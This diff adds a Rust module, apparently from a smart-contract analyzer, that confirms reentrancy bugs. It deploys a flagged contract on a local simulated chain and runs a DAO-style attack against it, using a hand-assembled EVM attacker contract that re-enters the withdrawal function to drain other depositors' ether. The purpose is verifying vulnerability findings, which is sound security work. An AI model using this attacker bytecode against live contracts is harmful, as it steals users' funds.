@@ -1,0 +1,253 @@
+//! The reentrancy attack run: the DAO's attack, played against the compiled contract.
+//!
+//! Another account (a victim) deposits first, so there is something to take. Then an attacker
+//! contract, written here in EVM assembly, deposits [`DEPOSIT`] through one payable function and
+//! calls the flagged function asking for that amount back. Whenever the contract pays it, the
+//! attacker's fallback calls the flagged function again (at most [`REENTRIES`] times). The attack
+//! worked when the attacker ends with more ether than it deposited. Every payable function is
+//! tried as the deposit, with integer arguments first set to the deposit (`deposit(amount)` that
+//! must match the value sent) and then to one (`put(lockUntil)` with a lock already passed).
+//! A payout by `transfer` or `send` forwards 2,300 gas: the attacker cannot re-enter with it,
+//! and such a run is (rightly) not a confirmation.
+
+use super::{Chain, DEPLOYER, STRANGER, Subject, value_of};
+use alloy_dyn_abi::{DynSolType, DynSolValue, JsonAbiExt as _};
+use alloy_json_abi::{Function, StateMutability};
+use alloy_primitives::{Address, TxKind, U256, address};
+use revm::{bytecode::Bytecode, state::AccountInfo};
+
+/// Deposits before the attack, so that the contract holds other people's ether.
+const VICTIM: Address = address!("0x00000000000000000000000000000000000b1c71");
+/// Where the attacker contract lives.
+const ATTACKER: Address = address!("0x00000000000000000000000000000000a77ac4e2");
+/// What the attacker deposits and asks back: one ether.
+pub const DEPOSIT: u128 = 1_000_000_000_000_000_000;
+/// How many times the attacker re-enters before it lets the payout finish.
+const REENTRIES: u8 = 3;
+
+/// `wei` in ether, for messages: `1 ether`, `2.5 ether`.
+pub fn ether(wei: u128) -> String {
+    let whole = wei / DEPOSIT;
+    let tenths = (wei % DEPOSIT) * 10 / DEPOSIT;
+    match tenths {
+        0 => format!("{whole} ether"),
+        _ => format!("{whole}.{tenths} ether"),
+    }
+}
+
+/// The wei the attacker left with when the attack on `function` worked.
+pub(super) fn drained(subject: &Subject<'_>, function: &Function) -> Option<u128> {
+    let abi = subject.abi;
+    let deposits: Vec<Option<&Function>> = abi
+        .functions()
+        .filter(|f| f.state_mutability == StateMutability::Payable && f.name != function.name)
+        .map(Some)
+        // A payable fallback or receive takes plain transfers.
+        .chain(
+            (abi.fallback
+                .is_some_and(|f| f.state_mutability == StateMutability::Payable)
+                || abi.receive.is_some())
+            .then_some(None),
+        )
+        .collect();
+    for deposit in deposits {
+        for integers in [U256::from(DEPOSIT), U256::from(1)] {
+            if let Some(taken) = attack(subject, function, deposit, integers) {
+                return Some(taken);
+            }
+        }
+    }
+    None
+}
+
+/// `function`'s call data with addresses set to `who` and integers to `integers`.
+fn call_data(function: &Function, who: Address, integers: U256) -> Option<Vec<u8>> {
+    let args = function
+        .inputs
+        .iter()
+        .map(|p| {
+            let kind: DynSolType = p.selector_type().parse().ok()?;
+            Some(match kind {
+                DynSolType::Uint(bits) => DynSolValue::Uint(integers, bits),
+                _ => value_of(&kind, who)?,
+            })
+        })
+        .collect::<Option<Vec<_>>>()?;
+    function.abi_encode_input(&args).ok()
+}
+
+fn attack(
+    subject: &Subject<'_>,
+    function: &Function,
+    deposit: Option<&Function>,
+    integers: U256,
+) -> Option<u128> {
+    let mut chain = Chain::new(&[DEPLOYER, STRANGER, VICTIM]);
+    let target = chain.deploy(subject)?;
+    let withdraw = call_data(function, ATTACKER, U256::from(DEPOSIT))?;
+    let runtime = attacker(target, &withdraw);
+    chain.db.insert_account_info(
+        ATTACKER,
+        AccountInfo::default().with_code(Bytecode::new_raw(runtime.into())),
+    );
+    let deposit_data = |who| match deposit {
+        Some(f) => call_data(f, who, integers),
+        None => Some(Vec::new()),
+    };
+    // The victim deposits twice what the attacker will (in deposits of the same size, for
+    // `deposit(amount)` that must match the value). They may fail (a contract that takes one
+    // depositor); the attack may still take the deployer's ether.
+    for _ in 0..2 {
+        chain.run(
+            VICTIM,
+            TxKind::Call(target),
+            deposit_data(VICTIM)?,
+            U256::from(DEPOSIT),
+        )?;
+    }
+    // The attacker's own deposit, through its proxy path.
+    let deposited = chain.run(
+        STRANGER,
+        TxKind::Call(ATTACKER),
+        deposit_data(ATTACKER)?,
+        U256::from(DEPOSIT),
+    )?;
+    let put_in = if deposited.is_success() { DEPOSIT } else { 0 };
+    let before = chain.balance(ATTACKER);
+    let attacked = chain.run(STRANGER, TxKind::Call(ATTACKER), withdraw, U256::ZERO)?;
+    let reentered = chain.storage(ATTACKER, U256::ZERO) > U256::ZERO;
+    let taken = u128::try_from(chain.balance(ATTACKER).saturating_sub(before)).ok()?;
+    (attacked.is_success() && reentered && taken > put_in).then_some(taken)
+}
+
+/// The attacker's runtime code. Called by anyone but `target`, it forwards the call and its value
+/// to `target` (reverting with the target's revert data when that fails). Called by `target` (a
+/// payout), it calls `target` again with `reenter` while its counter in slot 0 is below
+/// [`REENTRIES`], and otherwise accepts the ether.
+fn attacker(target: Address, reenter: &[u8]) -> Vec<u8> {
+    let mut asm = Assembler::default();
+    asm.op(CALLER).push_address(target).op(EQ);
+    asm.jump_if("reenter");
+    // Proxy: call(gas, target, callvalue, 0, calldatasize, 0, 0).
+    asm.op(CALLDATASIZE).push(0).push(0).op(CALLDATACOPY);
+    asm.push(0).push(0).op(CALLDATASIZE).push(0).op(CALLVALUE);
+    asm.push_address(target).op(GAS).op(CALL);
+    asm.jump_if("forwarded");
+    asm.op(RETURNDATASIZE).push(0).push(0).op(RETURNDATACOPY);
+    asm.op(RETURNDATASIZE).push(0).op(REVERT);
+    asm.label("forwarded").op(STOP);
+    // Paid by the target: count, and call it again while the count allows.
+    asm.label("reenter")
+        .push(0)
+        .op(SLOAD)
+        .push(REENTRIES)
+        .op(DUP2)
+        .op(LT)
+        .op(ISZERO);
+    asm.jump_if("accept");
+    asm.push(1).op(ADD).push(0).op(SSTORE);
+    asm.push_length(reenter.len())
+        .push_label("payload")
+        .push(0)
+        .op(CODECOPY);
+    asm.push(0)
+        .push(0)
+        .push_length(reenter.len())
+        .push(0)
+        .push(0);
+    asm.push_address(target).op(GAS).op(CALL).op(POP).op(STOP);
+    asm.label("accept").op(STOP);
+    asm.label_data("payload", reenter);
+    asm.finish()
+}
+
+const STOP: u8 = 0x00;
+const ADD: u8 = 0x01;
+const LT: u8 = 0x10;
+const EQ: u8 = 0x14;
+const ISZERO: u8 = 0x15;
+const CALLER: u8 = 0x33;
+const CALLVALUE: u8 = 0x34;
+const CALLDATASIZE: u8 = 0x36;
+const CALLDATACOPY: u8 = 0x37;
+const CODECOPY: u8 = 0x39;
+const RETURNDATASIZE: u8 = 0x3d;
+const RETURNDATACOPY: u8 = 0x3e;
+const POP: u8 = 0x50;
+const SLOAD: u8 = 0x54;
+const SSTORE: u8 = 0x55;
+const JUMPI: u8 = 0x57;
+const GAS: u8 = 0x5a;
+const JUMPDEST: u8 = 0x5b;
+const PUSH1: u8 = 0x60;
+const PUSH2: u8 = 0x61;
+const PUSH20: u8 = 0x73;
+const DUP2: u8 = 0x81;
+const CALL: u8 = 0xf1;
+const REVERT: u8 = 0xfd;
+
+/// Just enough of an assembler for [`attacker`]: opcodes, pushes, and two-byte label references
+/// patched at the end.
+#[derive(Default)]
+struct Assembler {
+    code: Vec<u8>,
+    labels: std::collections::HashMap<&'static str, usize>,
+    references: Vec<(usize, &'static str)>,
+}
+
+impl Assembler {
+    fn op(&mut self, op: u8) -> &mut Self {
+        self.code.push(op);
+        self
+    }
+
+    fn push(&mut self, byte: u8) -> &mut Self {
+        self.code.extend([PUSH1, byte]);
+        self
+    }
+
+    fn push_length(&mut self, length: usize) -> &mut Self {
+        let length = u16::try_from(length).unwrap_or(u16::MAX);
+        self.code.push(PUSH2);
+        self.code.extend(length.to_be_bytes());
+        self
+    }
+
+    fn push_address(&mut self, address: Address) -> &mut Self {
+        self.code.push(PUSH20);
+        self.code.extend(address.as_slice());
+        self
+    }
+
+    fn push_label(&mut self, label: &'static str) -> &mut Self {
+        self.code.push(PUSH2);
+        self.references.push((self.code.len(), label));
+        self.code.extend([0, 0]);
+        self
+    }
+
+    fn jump_if(&mut self, label: &'static str) -> &mut Self {
+        self.push_label(label).op(JUMPI)
+    }
+
+    fn label(&mut self, label: &'static str) -> &mut Self {
+        self.labels.insert(label, self.code.len());
+        self.op(JUMPDEST)
+    }
+
+    /// Bytes placed at the end of the code, addressed by `label` (no `JUMPDEST`).
+    fn label_data(&mut self, label: &'static str, data: &[u8]) -> &mut Self {
+        self.labels.insert(label, self.code.len());
+        self.code.extend(data);
+        self
+    }
+
+    fn finish(mut self) -> Vec<u8> {
+        for (at, label) in std::mem::take(&mut self.references) {
+            let target = self.labels.get(label).copied().unwrap_or_default();
+            let target = u16::try_from(target).unwrap_or(u16::MAX);
+            self.code[at..at + 2].copy_from_slice(&target.to_be_bytes());
+        }
+        self.code
+    }
+}
